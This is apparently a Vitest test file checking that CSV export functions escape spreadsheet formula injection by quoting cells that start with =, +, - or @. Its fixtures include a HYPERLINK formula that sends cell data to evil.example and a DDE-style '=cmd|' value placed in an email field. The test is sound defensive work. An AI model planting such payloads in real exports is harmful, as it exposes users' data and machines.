import { describe, expect, it } from 'vitest';
import { entryCsvLines, userCsvLines } from '../../src/analytics/csv.js';

describe('CSV downloads', () => {
  it('quote text a spreadsheet would run as a formula, and leave numbers and paths alone', () => {
    const line = entryCsvLines([['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1', '-2', '@SUM(A1)', '/path', -3, 5]], false);
    expect(line).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",'+1,'-2,'@SUM(A1),/path,-3,5\n`);
    expect(userCsvLines([['=cmd|x@example.com', null, null, null, null, null, 2, '1970-01-01 00:00:00', null]], true)).toBe(
      "Email,First Name,Last Name,Website,Registration Source,Signed Up (UTC),Hits,Last Request (UTC),Use Description\n'=cmd|x@example.com,,,,,,2,1970-01-01 00:00:00,\n",
    );
  });
});
